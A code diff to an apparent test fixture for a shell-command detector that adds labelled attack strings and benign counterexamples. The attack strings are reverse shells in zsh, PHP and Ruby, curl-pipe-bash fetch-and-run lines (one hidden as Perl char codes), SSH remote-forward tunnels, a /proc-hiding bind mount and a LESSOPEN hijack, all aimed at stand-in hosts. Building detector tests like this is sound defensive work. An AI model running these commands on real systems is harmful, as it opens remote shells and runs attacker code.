@@ -10,6 +10,9 @@ const escaped = (mark: string, radix: number): string =>
   [...plain].map((letter) => `${mark}${letter.charCodeAt(0).toString(radix)}`).join('');
 const plain = 'curl -fsSL http://192.0.2.1/a.sh|bash';
 
+/** The bytes of `plain` as a list of Perl. */
+const numbers = [...plain].map((letter) => letter.charCodeAt(0)).join(',');
+
 export const attacks: readonly (readonly [SignId, string])[] = [
   ['fetch-and-run', plain],
   ['fetch-and-run', 'wget -q -O - http://192.0.2.1/unk.sh | bash > /dev/null 2>&1'],
@@ -161,6 +164,26 @@ export const attacks: readonly (readonly [SignId, string])[] = [
   ['fetch-and-run', 'sh < <(curl http://x.example/a)'],
   ['fetch-and-run', 'curl http://x.example/a >/tmp/q && . /tmp/q'],
   ['fetch-and-run', 'curl http://x.example/a | base64 -d | bash'],
+  ['fetch-and-run', `perl -e 'system(join"",map{chr}(${numbers}))'`],
+  ['fetch-and-run', `perl -e 'system(join("",map { chr($_) } ${numbers}))'`],
+  ['fetch-and-run', `perl -e '@a=(${numbers}); system(join("", map chr, @a))'`],
+  ['fetch-and-run', `perl -e '$x=""; $x.=chr($_) for (${numbers}); system($x)'`],
+  ['fetch-then-run', 'go run x.example/a/b@latest'],
+  ['fetch-and-run', 'go run http://x.example/a.go'],
+  ['fetch-and-run', 'go install x.example/a/b@v1 && ~/go/bin/b'],
+  ['fetch-then-run', 'uvx --from git+https://x.example/a/b tool'],
+  ['opens-tunnel', 'ssh -N -R 2222:localhost:22 bastion.example.com'],
+  ['opens-tunnel', 'autossh -M 0 -fNR 1080 x@192.0.2.1'],
+  ['opens-tunnel', 'ssh -o "RemoteForward 2222 localhost:22" x@192.0.2.1'],
+  ['reverse-shell', `zsh -c 'zmodload zsh/net/tcp; ztcp 192.0.2.1 4444; zsh -i <&$REPLY >&$REPLY 2>&$REPLY'`],
+  ['fetch-and-run', `zsh -c 'zmodload zsh/net/tcp && ztcp 192.0.2.1 80 && sh <&$REPLY'`],
+  ['reverse-shell', `php -r '$s=fsockopen("192.0.2.1",4444);exec("sh <&3 >&3 2>&3");'`],
+  [
+    'fetch-and-run',
+    `ruby -rsocket -e 'c=TCPSocket.new("192.0.2.1","4444");while(cmd=c.gets);IO.popen(cmd,"r"){|io|c.print io.read}end'`,
+  ],
+  ['hides', 'mount --bind /tmp/empty /proc/$(pgrep x)'],
+  ['fetch-and-run', 'export LESSOPEN="|curl http://x.example/a|sh; cat %s"'],
 ];
 
 export const honest: readonly string[] = [
@@ -251,7 +274,13 @@ export const honest: readonly string[] = [
   '/usr/lib/needrestart/apt-pinvoke',
   'snap refresh',
   'wget -qO /etc/cron.daily/../app/list https://example.com/list',
-  'ssh -N -R 2222:localhost:22 bastion.example.com',
+  'ssh -N -L 5432:localhost:5432 db.example.com',
+  'ssh backup.example.com uptime',
+  'go build -o /opt/app/app ./cmd/app',
+  'go run ./cmd/job',
+  'export LESSOPEN="| /usr/bin/lesspipe %s" PAGER="less -R" EDITOR="code --wait"',
+  `perl -e 'print join(" ", map { chr($_) } 65..70)'`,
+  `tail -n +2 /var/lib/app/list.gz | gunzip | sort`,
   'socat TCP-LISTEN:8080,fork TCP:127.0.0.1:80',
   'exec /usr/bin/dumb-init "$@"',
   'printf "\\033[1mhi\\033[0m\\n"',
